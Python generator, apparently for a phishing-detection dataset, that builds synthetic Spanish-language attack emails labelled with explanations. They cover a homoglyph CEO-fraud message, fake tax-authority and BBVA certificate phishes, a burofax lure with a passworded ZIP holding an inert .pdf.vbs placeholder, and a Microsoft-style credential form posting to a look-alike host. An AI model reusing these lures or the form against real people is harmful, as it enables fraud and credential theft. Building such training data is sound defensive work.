# -*- coding: utf-8 -*-
from data.common import *


def ionos(c, client_ip, zone='CET'):
    n = c.r.randint(100, 130)
    tr = [('Received', 'from [192.168.1.%d] ([%s]) by mrelayeu.kundenserver.de%s(mreue%d [212.227.15.%d]) with ESMTPSA (Nemesis) id%s1M%s-1%s; %s' % (
        c.r.randint(30, 60), client_ip, NL + ' ', n, c.r.randint(160, 190), NL + ' ', c.pick('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 5),
        c.pick('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 21), rfc(c.t, zone)))]
    extra = [('X-Provags-ID', 'V03:K1:' + c.pick('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 60))]
    return Infra(('mout.kundenserver.de', 'mout.kundenserver.de', '212.227.126.%d' % c.r.randint(130, 190)), tr, None, extra,
                 tls='1.3', name='IONOS mail')


# ----------------------------------------------------------------- 27 -------
@message('attack', 27, 'es', 'manager-impersonation-homoglyph-whatsapp',
         what='Internal BEC: "José Ramón Fernández" (Madrid office manager) asks the Spanish accountant for her mobile number to continue on WhatsApp about an urgent, confidential advance payment to a new Portuguese cheese supplier; sent from the homoglyph domain exarnple.com ("rn" instead of "m").',
         why='Homoglyph look-alike of example.com hosted on an IONOS mailbox; moves the conversation to WhatsApp to escape mail controls; secrecy ("not even Kempten"), same-day deadline, manager "in a meeting with the bank, cannot talk".')
def a27():
    rn, ra = S('es_acc')
    c = ctx('a27', '2026-11-12 09:18:27', 'CET', ra)
    frm = 'jose.fernandez@exarnple.com'
    inf = ionos(c, '2.139.214.88')
    inf.msgid = '<%s@exarnple.com>' % c.uuid().upper()
    text = """Begoña, buenos días:

¿Estás en la oficina esta mañana? Necesito que me ayudes con un tema urgente y confidencial.

Desde Kempten estamos cerrando la compra de un lote de queso curado a un nuevo proveedor de Portugal y hay que adelantar un pago hoy antes de las 14:00 para asegurar el precio.

Ahora mismo estoy reunido en el banco y no puedo hablar. ¿Me pasas tu número de móvil? Te escribo por WhatsApp con los detalles.

Por favor, de momento no lo comentes con nadie, ni siquiera con Kempten, hasta que se anuncie oficialmente.

Gracias,
José Ramón
"""
    body = Text(text, charset='iso-8859-1', cte='quoted-printable', quoted=False)
    hs = [('From', addr('José Ramón Fernández', frm, 'utf-8', 'Q')),
          ('Content-Transfer-Encoding', 'quoted-printable'),
          ('Content-Type', 'text/plain;' + NL + '\tcharset=iso-8859-1'),
          ('Mime-Version', '1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))'),
          ('Subject', htext('¿Estás en la oficina?', 'utf-8', 'Q')),
          ('Message-Id', inf.msgid),
          ('Date', rfc(c.t, 'CET')),
          ('To', addr('Begoña Ibáñez', ra, 'utf-8', 'Q')),
          ('X-Mailer', 'Apple Mail (2.3826.400.131.1.6)')]

    class _Body(Text):
        def content_headers(self):
            return []
    b = _Body(text, charset='iso-8859-1', cte='quoted-printable')
    return assemble(c, inf, hs, b, frm, mime_version=False)


# ----------------------------------------------------------------- 28 -------
@message('attack', 28, 'es', 'aeat-verifactu-requerimiento-phish',
         what='Tax-authority phish: "Agencia Tributaria" issues a "requerimiento" because no VERI*FACTU compliance statement is on file for the Spanish subsidiary, threatening fines of up to 50,000 EUR and asking to log in with certificate or Cl@ve via a SendGrid-tracked link.',
         why='AEAT notifies through the Sede Electrónica / DEHú and does not collect "declaraciones responsables" of invoicing software (the statement is issued by the software producer); aeat-verifactu.es is a look-alike, the mail comes through SendGrid and the link ends on a non-gob.es host. Fear of sanctions and a 10-day deadline. The tax advisor\'s genuine note on VERI*FACTU: business/28.')
def a28():
    rn, ra = S('es_acc')
    c = ctx('a28', '2026-11-05 09:41:12', 'CET', ra)
    inf = sendgrid(c)
    frm = 'notificaciones@aeat-verifactu.es'
    url = 'https://u39918221.ct.sendgrid.net/ls/click?upn=u001.%s' % tok('a28', 90, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-')
    text = """Agencia Tributaria

Requerimiento de información - Ref. 2026VFT48812

Estimado/a contribuyente:

En el marco de las actuaciones de control del Reglamento que establece los requisitos que deben adoptar los sistemas informáticos de facturación (Real Decreto 1007/2023), le comunicamos que no consta en nuestras bases de datos la declaración responsable del sistema informático de facturación utilizado por:

EXAMPLE GROUP IBERICA SL - NIF %s

A partir del 1 de enero de 2027 todos los sistemas de facturación de las entidades sujetas al Impuesto sobre Sociedades deberán cumplir los requisitos VERI*FACTU. La falta de adaptación puede ser sancionada con multa de hasta 50.000 euros por ejercicio (artículo 201 bis de la Ley 58/2003, General Tributaria).

Dispone de un plazo de 10 días hábiles para aportar la documentación requerida a través de la Sede Electrónica, identificándose con certificado electrónico o Cl@ve:
%s

Agencia Estatal de Administración Tributaria
""" % (CIF_EXAMPLE_ES, url)
    paras = [mime.esc(p).replace('\n', '<br>') for p in text.split('\n\n')[2:6]]
    html = brand_html('Requerimiento de información - Ref. 2026VFT48812', paras, 'Acceder al requerimiento', url,
                      'Agencia Estatal de Administración Tributaria. Este mensaje se ha generado automáticamente.',
                      color='#8a1538', logo_text='Agencia Tributaria', lang='es', charset='windows-1252', font='Arial, sans-serif')
    body = Multi('alternative', [Text(text, charset='windows-1252', cte='quoted-printable', quoted=False),
                                 Text(html, 'html', 'windows-1252', 'quoted-printable', quoted=False)], inf.boundary())
    hs = [('Date', rfc(c.t, 'UTC')),
          ('From', addr('Agencia Tributaria', frm)),
          ('Mime-Version', '1.0'),
          ('Message-ID', inf.msgid),
          ('Subject', htext('Requerimiento de información: adaptación al sistema VERI*FACTU (Ref. 2026VFT48812)', 'windows-1252', 'Q')),
          ('To', ra)]
    return assemble(c, inf, hs, body, 'bounces+39918221-%s-%s=example.com@em2284.aeat-verifactu.es' % (c.hex(4), ra.split('@')[0]), mime_pos=3)


# ----------------------------------------------------------------- 29 -------
@message('attack', 29, 'es', 'burofax-password-zip-malware',
         what='Malware lure: "Burofax Online" announces a certified burofax from the customer Distribuciones Lácteas del Norte; the "encrypted content" is Burofax_BF-2026-118842.zip (ZipCrypto, password BF2026) holding a .pdf.vbs script; sent through a hacked Spanish SMB website.',
         why='Burofax is a Correos postal product, not delivered as e-mail attachments; password-protected archive to dodge scanning; double extension .pdf.vbs (inert placeholder here); legal pressure ("deemed refused after 72 h"); uses a real customer\'s name for credibility; unrelated compromised sender.',
         att_note='ZIP encrypted with ZipCrypto, password "BF2026"; contains `Burofax_BF-2026-118842.pdf.vbs` (one-line inert placeholder)')
def a29():
    rn, ra = S('es_mgr')
    c = ctx('a29', '2026-12-09 12:52:33', 'CET', ra)
    frm = 'notificaciones@talleres-arganda.es'
    inf = exim_cpanel(c, 'srv07.hostalia-pymes.es', '185.224.80.17', 'tallerea@srv07.hostalia-pymes.es',
                      script_path='/home/tallerea/public_html/wp-content/themes/astra/inc/mailer.php', domain='talleres-arganda.es')
    z = make_zip([('Burofax_BF-2026-118842.pdf.vbs', PLACEHOLDER, (2026, 12, 9, 11, 40, 2))], password='BF2026', seed='a29zip')
    text = """Estimado cliente:

Le informamos de que tiene pendiente de entrega un BUROFAX con acuse de recibo y certificación de contenido.

Remitente: DISTRIBUCIONES LÁCTEAS DEL NORTE S.L.
Destinatario: EXAMPLE GROUP IBÉRICA S.L.
Referencia: BF-2026-118842
Fecha de imposición: 09/12/2026

Por motivos de confidencialidad el contenido se adjunta cifrado.
Contraseña de apertura: BF2026

Si no accede al documento en un plazo de 72 horas, la comunicación se considerará rehusada a todos los efectos legales.

Burofax Online - Servicio de Notificaciones Certificadas
"""
    body = Multi('mixed', [Text(text, charset='iso-8859-15', cte='8bit', quoted=False),
                           Bin(z, 'application/zip', 'Burofax_BF-2026-118842.zip', sep='; ')], php_boundary(c))
    hs = [('Date', rfc(c.t, 'CET')),
          ('To', ra),
          ('From', addr('Burofax Online - Notificación Certificada', frm, 'iso-8859-15', 'Q')),
          ('Subject', htext('Burofax pendiente de entrega - Ref. BF-2026-118842', 'iso-8859-15', 'Q')),
          ('Message-ID', inf.msgid),
          ('X-Mailer', 'PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'),
          ('MIME-Version', '1.0')]
    return assemble(c, inf, hs, body, 'tallerea@srv07.hostalia-pymes.es', extra_pos=0, mime_pos=9)


# ----------------------------------------------------------------- 30 -------
@message('attack', 30, 'es', 'bank-netcash-certificate-phish',
         what='Bank credential phish: "BBVA Net cash" warns that the signing certificate of the company\'s cash-management user expires on 30/11/2026 and that payments, SEPA direct-debit files and payroll files cannot be signed afterwards; renewal link; sent through Mailjet.',
         why='Look-alike domain bbvanetcash-empresas.com (BBVA uses bbva.es / bbvanetcash.com), bulk ESP, link to a credential and OTP harvesting page; blocking of payroll/payments as pressure. Banks do not ask for certificate renewal through e-mail links.')
def a30():
    rn, ra = S('es_acc')
    c = ctx('a30', '2026-11-23 17:08:55', 'CET', ra)
    n = c.r.randint(20, 250)
    mid = '<%s.%s@mailjet.com>' % (c.hex(8), c.pick('ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789', 26))
    inf = Infra(('o%d.p25.mailjet.com' % n, 'o%d.p25.mailjet.com' % n, '87.253.232.%d' % n), [],
                mid, [('X-MJ-Mid', c.pick('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 40)),
                      ('X-Mailjet-Campaign', '%d' % c.r.randint(10 ** 9, 2 * 10 ** 9)),
                      ('X-CSA-Complaints', 'csa-complaints@eco.de'),
                      ('Feedback-Id', '%d.%d.%d:MJ' % (c.r.randint(1, 99), c.r.randint(10 ** 6, 9 * 10 ** 6), c.r.randint(10 ** 6, 9 * 10 ** 6)))],
                tls='1.3', name='Mailjet')
    frm = 'avisos@bbvanetcash-empresas.com'
    url = 'http://%s.mjt.lu/lnk/%s/%s' % ('x8k2p', tok('a30', 40, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'), tok('a30b', 60, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'))
    text = """BBVA Net cash

Estimado cliente:

Le informamos de que el certificado de firma asociado a su usuario de BBVA Net cash (contrato EXAMPLE GROUP IBERICA SL) caducará el 30/11/2026.

A partir de esa fecha no podrá firmar órdenes de pago, transferencias, remesas de recibos SEPA ni ficheros de nóminas.

Para renovarlo, acceda a Net cash desde el siguiente enlace y siga las instrucciones. El proceso dura menos de 2 minutos y requiere la confirmación con su dispositivo de firma:
%s

Si ya ha realizado la renovación, ignore este mensaje.

Atentamente,
BBVA
""" % url
    paras = [mime.esc(p).replace('\n', '<br>') for p in text.split('\n\n')[1:4]]
    html = brand_html('Su certificado de firma caduca el 30/11/2026', paras, 'Renovar certificado', url,
                      'Banco Bilbao Vizcaya Argentaria, S.A. Plaza de San Nicolás 4, 48005 Bilbao. Si ya ha realizado la renovación, ignore este mensaje.',
                      color='#004481', logo_text='BBVA Net cash', lang='es', font='Arial, sans-serif')
    body = Multi('alternative', [Text(text, charset='utf-8', cte='quoted-printable'),
                                 Text(html, 'html', 'utf-8', 'quoted-printable')], c.hex(32))
    hs = [('From', addr('BBVA Net cash', frm)),
          ('To', ra),
          ('Subject', 'Net cash: su certificado de firma caduca el 30/11/2026'),
          ('Message-ID', inf.msgid),
          ('Date', rfc(c.t, 'UTC')),
          ('MIME-Version', '1.0')]
    return assemble(c, inf, hs, body, 'bnc3.%s@bnc3.mailjet.com' % tok('a30rp', 20), mime_pos=6)


# ----------------------------------------------------------------- 31 -------
@message('attack', 31, 'es', 'carrier-lookalike-html-invoice-login',
         what='Credential phish disguised as a carrier invoice: "Transportes Frigoríficos Gallego" sends invoice TFG-2026-0981 for November freight as an HTML attachment that shows a Microsoft sign-in form "to view the protected document"; look-alike domain tfgallego-sa.com on a Hostinger VPS.',
         why='The carrier\'s real domain is tfgallego.es on Exchange Online and its invoices are PDFs (business/29); this sender is a look-alike on a VPS, and the HTML attachment is a Microsoft-branded login form posting to an attacker host (inert, no script). Invoices never require a Microsoft login to open.',
         att_note='HTML attachment: Microsoft-style login form prefilled with the recipient address (no script)')
def a31():
    rn, ra = S('es_acc')
    c = ctx('a31', '2026-12-01 11:27:40', 'CET', ra)
    frm = 'administracion@tfgallego-sa.com'
    inf = direct(c, 'mail.tfgallego-sa.com', 'srv703118.hstgr.cloud', '31.97.47.203', msgid_style='thunderbird',
                 domain='tfgallego-sa.com')
    text = """Buenos días Begoña:

Adjuntamos la factura TFG-2026-0981 correspondiente a los portes de noviembre (rutas Madrid - Lugo - A Coruña, 14 servicios refrigerados), por importe de 6.842,35 EUR IVA incluido, con vencimiento 30/12/2026.

El documento está protegido. Para visualizarlo, inicie sesión con su cuenta corporativa de Microsoft.

Un saludo,

Departamento de Administración
Transportes Frigoríficos Gallego S.A.
Polígono Industrial O Ceao, Rúa da Industria 22
27003 Lugo
"""
    att = """<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>Factura TFG-2026-0981 - Documento protegido</title>
<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}.b{width:440px;margin:70px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:14px 0;font-size:15px}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style></head>
<body><div class="b"><div style="font-size:20px;font-weight:600;color:#5e5e5e">Microsoft</div>
<h2 style="font-weight:600">Iniciar sesión</h2>
<p>Factura_TFG-2026-0981.pdf (214 KB) - Para ver este documento protegido, confirme su identidad.</p>
<form method="post" action="https://tfgallego-sa.com/docs/owa/auth.php">
<input type="email" name="login" value="%s"><input type="password" name="passwd" placeholder="Contraseña">
<button type="submit">Iniciar sesión</button></form><div style="clear:both"></div></div>
<!-- inert: credential-exfiltration script of the original kit removed -->
</body></html>
""" % ra
    body = Multi('mixed', [Text(text, charset='ISO-8859-1', cte='base64', params='; format=flowed', quoted=False),
                           Bin(att.encode('utf-8'), 'text/html; charset=UTF-8', 'Factura_TFG-2026-0981.html', sep='; ')],
                 tb_boundary(c), preamble='This is a multi-part message in MIME format.')
    hs = [('Message-ID', inf.msgid),
          ('Date', rfc(c.t, 'CET')),
          ('MIME-Version', '1.0'),
          ('User-Agent', 'Mozilla Thunderbird'),
          ('Content-Language', 'es-ES'),
          ('To', addr('Begoña Ibáñez', ra, 'UTF-8', 'Q')),
          ('From', addr('Administración TFG', frm, 'UTF-8', 'Q')),
          ('Subject', 'Factura TFG-2026-0981 - portes noviembre')]
    return assemble(c, inf, hs, body, frm)
